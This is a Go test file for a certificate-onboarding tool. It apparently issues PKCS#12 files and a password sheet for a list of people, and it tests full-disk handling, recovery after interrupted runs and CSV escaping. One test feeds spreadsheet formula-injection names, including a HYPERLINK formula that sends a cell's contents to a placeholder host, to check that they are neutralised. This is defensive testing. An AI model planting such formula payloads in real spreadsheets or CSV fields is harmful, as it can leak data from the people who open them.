package onboard

import (
	"context"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"certdesk/core/peer/peertest"
	"certdesk/core/pki"
	"certdesk/core/vault"
)

func newVault(t *testing.T) (*vault.Vault, vault.CA) {
	t.Helper()
	v, err := vault.Create(filepath.Join(t.TempDir(), "v.db"), nil, vault.CreateOptions{Insecure: true})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { v.Close() })
	ca, err := v.CreateCA(context.Background(), "Team", pki.CARequest{Name: pki.Name{CommonName: "Team"}})
	if err != nil {
		t.Fatal(err)
	}
	return v, ca
}

func people(t *testing.T, n int) []Row {
	t.Helper()
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "Person %02d,p%02d@example.com\n", i, i)
	}
	rows, err := ParseCSV(strings.NewReader(b.String()), pki.DefaultKeyType)
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// readSheetFile returns the sheet's rows, header first.
func readSheetFile(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatalf("the password sheet is not valid CSV: %v", err)
	}
	return rows
}

// TestFullDisk issues onto a tmpfs too small for everyone: every row is
// either on the sheet with a PKCS#12 that openssl opens with the sheet's
// password, or named as issued but not delivered. After space is freed a
// re-run delivers exactly the undelivered rows, with new files and
// passwords, and refuses the delivered ones.
func TestFullDisk(t *testing.T) {
	openssl := peertest.Require(t, "openssl")
	ctx := context.Background()
	v, ca := newVault(t)
	mnt := peertest.Tmpfs(t, "24k")
	out := filepath.Join(mnt, "out")
	rows := people(t, 30)
	rep, err := Run(ctx, v, ca, rows, Options{OutDir: out})
	if err != nil {
		t.Fatalf("a full disk is reported per row, not as one error: %v", err)
	}
	if rep.Undelivered == 0 || rep.Issued == 0 {
		t.Fatalf("want some rows delivered and some not on a 24k tmpfs: %d delivered, %d not", rep.Issued, rep.Undelivered)
	}
	undelivered := map[int64]bool{}
	for _, r := range rep.Results {
		switch {
		case r.Err == nil:
		case r.Undelivered && errors.Is(r.Err, ErrNotDelivered) && strings.Contains(r.Err.Error(), "no space left"):
			undelivered[r.Record.ID] = true
		default:
			t.Errorf("row %d: %v (undelivered %v)", r.Row.Line, r.Err, r.Undelivered)
		}
	}
	if rep.Issued+len(undelivered) != len(rows) {
		t.Errorf("%d delivered + %d named undelivered, want all %d rows", rep.Issued, len(undelivered), len(rows))
	}
	checkSheet(t, openssl, filepath.Join(out, SheetName), rep.Issued)
	t.Logf("24k tmpfs: %d delivered, %d named undelivered, e.g. %v", rep.Issued, len(undelivered), rep.Results[len(rows)-1].Err)

	// Free space: the re-run delivers the rest.
	peertest.ResizeTmpfs(t, mnt, "4m")
	again, err := Run(ctx, v, ca, rows, Options{OutDir: out})
	if err != nil {
		t.Fatal(err)
	}
	if again.Issued != len(undelivered) || again.Earlier != len(rows)-len(undelivered) || again.Failed != 0 {
		t.Errorf("re-run: %d delivered, %d earlier, %d failed; want %d, %d and 0", again.Issued, again.Earlier, again.Failed, len(undelivered), len(rows)-len(undelivered))
	}
	for _, r := range again.Results {
		if r.Err != nil || undelivered[r.Record.ID] != r.Redelivered || undelivered[r.Record.ID] == r.Earlier {
			t.Errorf("row %d on the re-run: %v (redelivered %v, earlier %v)", r.Row.Line, r.Err, r.Redelivered, r.Earlier)
		}
	}
	checkSheet(t, openssl, filepath.Join(out, SheetName), len(rows))
	if n, _ := v.Count(ctx, vault.Filter{Kind: vault.KindClient}); n != len(rows) {
		t.Errorf("%d certificates, want one per person (%d)", n, len(rows))
	}
}

// checkSheet: the sheet has want rows, one per serial, and openssl opens
// each row's PKCS#12 with its password.
func checkSheet(t *testing.T, openssl, path string, want int) {
	t.Helper()
	rows := readSheetFile(t, path)
	if len(rows)-1 != want {
		t.Fatalf("the sheet has %d rows, want %d", len(rows)-1, want)
	}
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		if seen[r[4]] {
			t.Errorf("serial %s twice on the sheet", r[4])
		}
		seen[r[4]] = true
		peertest.Run(t, openssl, "pkcs12", "-in", filepath.Join(filepath.Dir(path), r[2]), "-passin", "pass:"+r[3], "-noout")
	}
}

// TestKilledAfterSigning: certificates stored by IssuePeople whose files
// were never written (a kill) are delivered by the next run instead of
// refused as "already holds a valid certificate".
func TestKilledAfterSigning(t *testing.T) {
	openssl := peertest.Require(t, "openssl")
	ctx := context.Background()
	v, ca := newVault(t)
	rows := people(t, 4)
	var reqs []pki.PersonRequest
	for _, r := range rows[:3] {
		reqs = append(reqs, r.Req)
	}
	if _, err := v.IssuePeople(ctx, ca, reqs, nil); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "out")
	rep, err := Run(ctx, v, ca, rows, Options{OutDir: out})
	if err != nil || rep.Issued != 4 || rep.Failed != 0 {
		t.Fatalf("%d delivered, %d failed, %v", rep.Issued, rep.Failed, err)
	}
	for i, r := range rep.Results {
		if r.Redelivered != (i < 3) {
			t.Errorf("row %d: redelivered %v", r.Row.Line, r.Redelivered)
		}
	}
	checkSheet(t, openssl, filepath.Join(out, SheetName), 4)
	// Everyone is delivered now: a third run into the folder finds them
	// all on its sheet, and one into another folder refuses them all.
	rep, err = Run(ctx, v, ca, rows, Options{OutDir: out})
	if err != nil || rep.Issued != 0 || rep.Earlier != 4 || rep.Failed != 0 {
		t.Fatalf("third run: %d delivered, %d earlier, %d failed, %v", rep.Issued, rep.Earlier, rep.Failed, err)
	}
	checkSheet(t, openssl, filepath.Join(out, SheetName), 4)
	rep, err = Run(ctx, v, ca, rows, Options{OutDir: filepath.Join(t.TempDir(), "other")})
	if err != nil || rep.Issued != 0 || rep.Failed != 4 || !strings.Contains(rep.Results[0].Err.Error(), "already holds a valid certificate") {
		t.Fatalf("run into another folder: %d delivered, %d failed, %v %+v", rep.Issued, rep.Failed, err, rep.Results[0])
	}
}

// TestFormulaCells: names that a spreadsheet would run as formulas reach
// the sheet as text (a leading quote), and Python's csv module reads the
// sheet back as the same six cells per row.
func TestFormulaCells(t *testing.T) {
	python := peertest.Require(t, "python3")
	ctx := context.Background()
	v, ca := newVault(t)
	names := []string{`=HYPERLINK("http://x/"&A2)`, "+SUM(1)", "-2+3", "@cmd", "Plain, Name"}
	var b strings.Builder
	w := csv.NewWriter(&b)
	for i, n := range names {
		w.Write([]string{n, fmt.Sprintf("p%d@example.com", i)})
	}
	w.Flush()
	rows, err := ParseCSV(strings.NewReader(b.String()), pki.DefaultKeyType)
	if err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(t.TempDir(), "out")
	rep, err := Run(ctx, v, ca, rows, Options{OutDir: out})
	if err != nil || rep.Issued != len(names) {
		t.Fatalf("%d issued, %v: %+v", rep.Issued, err, rep.Results)
	}
	got := peertest.Run(t, python, "-c", `import csv,sys
for r in csv.reader(open(sys.argv[1], newline="")):
    assert len(r) == 6, r
    print(r[0])`, filepath.Join(out, SheetName))
	lines := strings.Split(strings.TrimSpace(got), "\n")[1:]
	for i, n := range names {
		want := n
		if strings.ContainsAny(n[:1], "=+-@") {
			want = "'" + n
		}
		if i >= len(lines) || lines[i] != want {
			t.Errorf("sheet cell %d = %q, want %q", i, lines[min(i, len(lines)-1)], want)
		}
	}
}

// TestKilledAfterTheSheet: a run killed after a row reached the sheet but
// before the vault recorded it: the re-run into the same folder finds the
// row there, records it, and writes no second file or password for it.
func TestKilledAfterTheSheet(t *testing.T) {
	ctx := context.Background()
	v, ca := newVault(t)
	rows := people(t, 2)
	issued, err := v.IssuePeople(ctx, ca, []pki.PersonRequest{rows[0].Req}, nil)
	if err != nil {
		t.Fatal(err)
	}
	rec := issued[0].Record
	out := filepath.Join(t.TempDir(), "out")
	os.MkdirAll(out, 0o700)
	sheet := strings.Join(sheetHeader, ",") + "\n" + strings.Join([]string{rec.CommonName, rec.Emails[0], "earlier.p12", "k7wq2-mzp3x-aaaaa-bbbbb", rec.Serial, rec.FingerprintSHA256}, ",") + "\n" + "Half a ro"
	os.WriteFile(filepath.Join(out, SheetName), []byte(sheet), 0o600)
	rep, err := Run(ctx, v, ca, rows, Options{OutDir: out})
	if err != nil || rep.Issued != 2 {
		t.Fatalf("%d delivered, %v: %+v", rep.Issued, err, rep.Results)
	}
	if r := rep.Results[0]; !r.Redelivered || r.File != filepath.Join(out, "earlier.p12") || r.Password != "" {
		t.Errorf("row 1: %+v, want the sheet's earlier file recognised", r)
	}
	lines := readSheetFile(t, filepath.Join(out, SheetName))
	if len(lines) != 3 || lines[1][2] != "earlier.p12" || lines[2][0] != "Person 01" {
		t.Errorf("sheet: %q, want the earlier row, then Person 01 (the half row cut)", lines)
	}
	if left, _ := v.Undelivered(ctx, ca.ID); len(left) != 0 {
		t.Errorf("still undelivered: %v", left)
	}
}
